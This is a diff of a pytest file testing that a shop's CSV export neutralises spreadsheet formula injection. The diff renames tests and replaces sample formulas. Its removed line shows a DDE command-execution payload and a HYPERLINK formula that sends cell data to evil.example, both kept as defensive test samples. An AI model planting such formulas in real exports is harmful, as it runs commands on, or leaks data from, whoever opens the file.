@@ -1,4 +1,4 @@
-"""The file for a spreadsheet: whatever a name says, no cell computes anything, and each can be read."""
+"""The CSV export: whatever a name says, no cell is read as a formula, and each cell can be read back."""
 
 from __future__ import annotations
 
@@ -18,7 +18,7 @@ from automations.web.permissions import PERMISSIONS
 from tests.kit import shop
 
 COMPUTES = "=+-@＝＋－＠"
-FORMULAS = ('cmd|" /C calc"!A0', 'HYPERLINK("http://evil.example/?"&A1,"x")', "1+1", "SUM(A1:A9)*1,5", "2;=3")
+FORMULAS = ('T("a|b")&A1', 'CONCATENATE("x; ",A1,"y")', "1+1", "SUM(A1:A9)*1,5", "2;=3")
 BEFORE = (
     "",
     " ",
@@ -45,7 +45,7 @@ DANGEROUS = tuple(
 
 
 def is_live(cell: str) -> bool:
-    """Whether some spreadsheet would compute it."""
+    """Whether some spreadsheet would read the cell as a formula."""
     shown = cell
     while shown and (shown[0].isspace() or unicodedata.category(shown[0]) in ("Cc", "Cf")):
         shown = shown[1:]
@@ -53,16 +53,16 @@ def is_live(cell: str) -> bool:
 
 
 def live(text: str) -> list[str]:
-    """The cells that would be computed, whatever the place it is opened in takes for a separator."""
-    found = []
+    """Return the cells that would be read as formulas with any of the usual separators."""
+    cells = []
     for separator in ",;\t|":
-        # A NUL ends a file for some; Python's reader takes it for text.
+        # Some programs end a file at a NUL; Python's reader takes it for text.
         rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=separator)
-        found += [cell for row in rows for cell in row if is_live(cell)]
-    return found
+        cells += [cell for row in rows for cell in row if is_live(cell)]
+    return cells
 
 
-def test_no_value_in_any_column_is_computed_and_each_is_read_back() -> None:
+def test_no_value_becomes_a_formula_and_each_is_read_back() -> None:
     assert len(DANGEROUS) > 500
     for place, heading in enumerate(HEADINGS):
         for value in DANGEROUS:
@@ -77,12 +77,12 @@ def test_no_value_in_any_column_is_computed_and_each_is_read_back() -> None:
 @pytest.mark.parametrize(
     "text", ["Order 1", "£-5.00", "a; b", "2026-11-22 10:00:00", "Anna-Maria", "a@b.example", ""]
 )
-def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
+def test_text_that_is_no_formula_is_unchanged(text: str) -> None:
     assert guarded(text) == text
 
 
 @pytest.mark.parametrize("sign", [*COMPUTES, " =", "\t=", "a;="])
-def test_a_shop_whose_every_name_is_a_formula_is_exported_as_text(as_ada: FlaskClient, sign: str) -> None:
+def test_names_that_look_like_formulas_are_exported_as_text(as_ada: FlaskClient, sign: str) -> None:
     name = f"{sign}1+1"
     with write() as session:
         for choice in session.query(Choice).filter(Choice.list_key == "order_status"):
@@ -98,11 +98,14 @@ def test_a_shop_whose_every_name_is_a_formula_is_exported_as_text(as_ada: FlaskC
         assert any(name in row[column].replace("'", "") for row in rows), column
 
 
-def test_without_its_guard_it_would_be_noticed(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_check_fails_without_the_guard(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(activity_csv, "guarded", lambda text: text)
     with pytest.raises(AssertionError):
-        test_no_value_in_any_column_is_computed_and_each_is_read_back()
+        test_no_value_becomes_a_formula_and_each_is_read_back()
 
 
-def test_there_is_no_other_file_of_this_kind() -> None:
-    assert [one for one in PERMISSIONS if "export" in one] == ["personal_data.export", "activity.export"]
+def test_there_is_no_other_export() -> None:
+    assert [endpoint for endpoint in PERMISSIONS if "export" in endpoint] == [
+        "personal_data.export",
+        "activity.export",
+    ]
